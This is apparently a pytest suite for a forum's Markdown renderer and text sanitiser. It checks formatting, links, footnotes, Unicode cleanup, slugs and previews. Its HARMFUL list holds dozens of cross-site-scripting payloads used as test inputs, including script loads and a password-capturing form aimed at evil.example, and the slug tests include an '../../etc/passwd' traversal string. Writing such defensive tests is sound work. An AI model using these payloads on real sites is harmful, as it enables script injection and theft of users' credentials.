"""What people write, as readers see it: marks that work, and nothing that could harm who reads."""

from __future__ import annotations

import re
import unicodedata

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from forum.core.text import (
    LINK_RELATION,
    TAGS,
    allowed,
    excerpt,
    is_blank,
    render_markdown,
    slug,
    tidy,
    tidy_line,
)
from tests.browsing import Browser
from tests.factories import make_person


def soup(source: str, anchor: str = "") -> BeautifulSoup:
    return BeautifulSoup(render_markdown(source, anchor), "html.parser")


def links(source: str) -> dict[str, str]:
    """Each link's words and where it leads."""
    return {link.get_text(): str(link.get("href", "")) for link in soup(source).select("a")}


def test_emphasis_lists_quotes_and_code_are_read() -> None:
    shown = soup("Un *essai* **réussi**.\n\n- un\n- deux\n\n1. d’abord\n2. ensuite\n\n> cité\n\n`code`\n\n---\n")

    assert [shown.em.text, shown.strong.text, shown.code.text] == ["essai", "réussi", "code"]
    assert [item.text for item in shown.select("ul > li")] == ["un", "deux"]
    assert [item.text for item in shown.select("ol > li")] == ["d’abord", "ensuite"]
    assert shown.blockquote.get_text(strip=True) == "cité"
    assert shown.hr


def test_a_line_end_is_a_line_end() -> None:
    assert render_markdown("Bonjour,\nje viens.") == "<p>Bonjour,<br>\nje viens.</p>"


def test_no_heading_skips_a_level_wherever_a_text_begins() -> None:
    found = soup("### Trois\n\n###### Six\n\n### Encore trois").select("h1, h2, h3, h4, h5, h6")

    assert [heading.name for heading in found] == ["h3", "h4", "h3"]


def test_headings_begin_below_those_of_the_page() -> None:
    assert [heading.name for heading in soup("# Un\n\n## Deux\n\n###### Six").select("h1, h2, h3, h4, h5, h6")] == [
        "h3",
        "h4",
        "h5",
    ]


def test_a_table_keeps_its_alignment_without_an_inline_style() -> None:
    table = soup("| Classe | Élèves |\n|:------|------:|\n| 6e | 28 |\n").table

    assert [cell.text for cell in table.select("th")] == ["Classe", "Élèves"]
    assert [cell["class"] for cell in table.select("td")] == [["align-start"], ["align-end"]]
    assert "style" not in str(table)


def test_a_task_list_shows_what_is_done() -> None:
    boxes = soup("- [x] prévenir la famille\n- [ ] fixer la date\n").select(
        "li.task > label > input[type=checkbox][disabled]"
    )

    assert [box.has_attr("checked") for box in boxes] == [True, False]


def test_a_task_list_with_spaced_items_shows_what_is_done() -> None:
    assert len(soup("- [x] un\n\n- [ ] deux\n").select("li.task input[type=checkbox]")) == 2


def test_fenced_code_is_shown_as_typed() -> None:
    assert soup("```python\nif a < b: print('*non*')\n```").select_one("pre > code").text == (
        "if a < b: print('*non*')\n"
    )


def test_a_footnote_leads_to_its_note_and_back() -> None:
    shown = soup("Vu en 2012[^a].\n\n[^a]: Rapport RESOLIS.\n", "p3")
    call = shown.select_one("a.footnote-ref")
    note = shown.select_one(f'li[id="{str(call["href"]).removeprefix("#")}"]')

    assert "Rapport RESOLIS." in note.text
    assert shown.select_one(f'[id="{str(note.select_one("a.footnote-backref")["href"]).removeprefix("#")}"]')


def test_footnotes_of_two_texts_on_one_page_stay_apart() -> None:
    source = "Un[^1].\n\n[^1]: note\n"
    page = BeautifulSoup(render_markdown(source, "p1") + render_markdown(source, "p2"), "html.parser")
    ids = [element["id"] for element in page.select("[id]")]

    assert len(ids) == len(set(ids)) == 4
    assert all(str(link["href"]).removeprefix("#") in ids for link in page.select("a"))


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("voir https://ecole.example/a?b=1&c=2, puis", "https://ecole.example/a?b=1&c=2"),
        ("(https://ecole.example/a)", "https://ecole.example/a"),
        ("https://fr.example/M%C3%A9diation_(droit).", "https://fr.example/M%C3%A9diation_(droit)"),
        ("« https://ecole.example »", "https://ecole.example"),
        ("HTTPS://ECOLE.EXAMPLE", "HTTPS://ECOLE.EXAMPLE"),
        ("www.ecole.example", "http://www.ecole.example"),
        ("<https://ecole.example/a>", "https://ecole.example/a"),
    ],
)
def test_a_bare_address_becomes_a_link(source: str, address: str) -> None:
    assert [link["href"] for link in soup(source).select("a")] == [address]


@pytest.mark.parametrize(
    "source", ["Viens demain.Il fait beau", "prenom.nom@ecole.example", "http://", "`https://a.example`", "12.30"]
)
def test_what_is_no_address_stays_words(source: str) -> None:
    assert not soup(source).select("a")


@pytest.mark.parametrize(
    "address",
    ["https://ailleurs.example", "//ailleurs.example", "/\\ailleurs.example", "ailleurs.example", "mailto:a@b.example"],
)
def test_a_link_that_leads_elsewhere_says_so(address: str) -> None:
    assert f'rel="{LINK_RELATION}"' in render_markdown(f"[ici]({address})")


@pytest.mark.parametrize("address", ["/threads/3-retour", "#post-2", "/"])
def test_a_link_into_the_site_is_a_plain_one(address: str) -> None:
    link = soup(f"[ici]({address})").a

    assert link["href"] == address
    assert not link.has_attr("rel")


def test_a_picture_from_elsewhere_is_a_link_to_it() -> None:
    """A picture would make every reader's browser ask a third party for it."""
    assert not soup("![la cour](https://ailleurs.example/cour.jpg)").select("img")
    assert links("![la cour](https://ailleurs.example/cour.jpg)") == {"la cour": "https://ailleurs.example/cour.jpg"}
    assert links("![](https://ailleurs.example/x.png)") == {
        "https://ailleurs.example/x.png": "https://ailleurs.example/x.png"
    }


HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "<p style='position:fixed'>x</p>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x></object><embed src=x><base href=//evil.example><meta http-equiv=refresh content=0>",
    '```x"><script>alert(1)</script>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^<script>]\n\n[^<script>]: y",
    'x[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: y',
    "# x {: onclick=alert(1) }",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",
]


@pytest.mark.parametrize("source", HARMFUL)
def test_nothing_that_could_run_survives(source: str) -> None:
    assert_harmless(render_markdown(source, "p1"))


def assert_harmless(html: str) -> None:
    page = BeautifulSoup(html, "html.parser")
    assert "<!--" not in html
    for element in page.find_all(True):
        assert element.name in TAGS
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            assert name == "rel" or allowed(element.name, name, text), (element.name, name, text)
            if name == "href":
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", text, re.IGNORECASE)  # as browsers read one
                assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), text


MARKED = st.lists(
    st.one_of(
        st.text(max_size=8),
        st.sampled_from(
            [
                *HARMFUL, "*", "**", "_", "`", "```\n", "~~~\n", "> ", "- ", "1. ", "[", "](", ")", "![",
                "[^1]", "[^1]: ",                "|", "|-|-|\n", "\n", "\n\n", "    ", "\t", "# ", "===\n",
                "&", "&amp;", "&#x3c;", "<", ">", '"', "'",
                "\\", "http://", "https://a.example/", "www.", "<a href=", "- [ ] ",
                "\u202e", "\u0301", "\x00", "\ud800",
            ]
        ),
    ),
    max_size=40,
).map("".join)  # fmt: skip


@given(MARKED)
def test_any_text_at_all_is_shown_with_the_closed_list_alone(source: str) -> None:
    assert_harmless(render_markdown(source, "p1"))


@given(st.text())
def test_any_characters_at_all_are_shown_with_the_closed_list_alone(source: str) -> None:
    assert_harmless(render_markdown(source))


def test_a_line_keeps_the_spaces_where_it_must_not_break() -> None:
    assert tidy_line("  Que faire\u00a0? \t Et\n après ") == "Que faire\u00a0? Et après"


@given(
    st.one_of(st.text(), MARKED, st.text(alphabet="ae\u0301\u0323\u0344\u034f\u05b0\u0958\u0f71\u0f74\uac00\u11a8 "))
)
def test_what_is_tidy_stays_as_it_is(source: str) -> None:
    once = tidy(source)

    assert tidy(once) == once
    assert unicodedata.is_normalized("NFC", once)
    assert tidy_line(tidy_line(source)) == tidy_line(source)
    assert not set(tidy_line(source)) & set("\t\n\r\u2028\u2003")


def test_invisible_characters_that_harm_are_taken_out_and_those_that_serve_are_kept() -> None:
    assert tidy("a\x00b\x07c\r\nd\re") == "abc\nd\ne"
    assert tidy("\u202etxet\u202c \u2066x\u2069 \ufeff") == "txet x "
    assert tidy("👩‍👩‍👧 נִקּוּד \u200fעברית") == "👩‍👩‍👧 " + unicodedata.normalize("NFC", "נִקּוּד") + " \u200fעברית"


def test_letters_are_put_together_and_stacked_marks_cut() -> None:
    assert tidy("e\u0301cole") == "école"
    assert tidy("Việt") == "Việt"
    assert len(tidy("Z" + "\u0301\u0323" * 500)) <= 5


@pytest.mark.parametrize("text", ["", "   ", "\n\t\n", "\u200b\u200d", "\u00a0\u2003", "\u0301", "\u2060\ufeff"])
def test_a_text_of_nothing_visible_is_blank(text: str) -> None:
    assert is_blank(text)


@pytest.mark.parametrize("text", ["a", "?", "👍", "…", "7", "　字"])
def test_a_text_of_one_sign_is_not_blank(text: str) -> None:
    assert not is_blank(text)


@pytest.mark.parametrize(
    ("title", "end"),
    [
        ("L’école, c’est à nous : où en est-on ?", "l-ecole-c-est-a-nous-ou-en-est-on"),
        ("Œuvre & cœur", "oeuvre-coeur"),
        ("日本語", "-"),
        ("", "-"),
        ("../../etc/passwd\x00", "etc-passwd"),
    ],
)
def test_a_title_makes_a_readable_end_of_an_address(title: str, end: str) -> None:
    assert slug(title) == end


@given(st.text())
def test_any_title_makes_the_end_of_an_address(title: str) -> None:
    made = slug(title)

    assert made.isascii()
    assert 0 < len(made) <= 80
    assert not set(made) - set("abcdefghijklmnopqrstuvwxyz0123456789-")


def test_an_excerpt_is_the_first_words_without_marks() -> None:
    assert (
        excerpt("## Retour\n\n> **Dites** [tout](https://a.example) et ![image](x)\n\n- un")
        == "Retour Dites tout et image un"
    )
    assert excerpt("mot " * 100, 20) == "mot mot mot mot mot…"


@given(MARKED, st.integers(1, 200))
def test_an_excerpt_is_never_longer_than_asked(source: str, longest: int) -> None:
    assert len(excerpt(source, longest)) <= longest + 1


def test_a_member_sees_a_preview_as_it_will_be_read(browser: object) -> None:
    member = browser(make_person())  # type: ignore[operator]
    page = member.post("/preview", {"source": "**Oui** <script>alert(1)</script> ![x](https://a.example/x.png)"})

    assert page.status == 200
    assert page.select("strong")
    assert not page.select("script, img")


def test_a_visitor_has_no_preview(visitor: Browser) -> None:
    assert visitor.post("/preview", {"source": "a"}, follow=False).response.headers["Location"] == "/login"
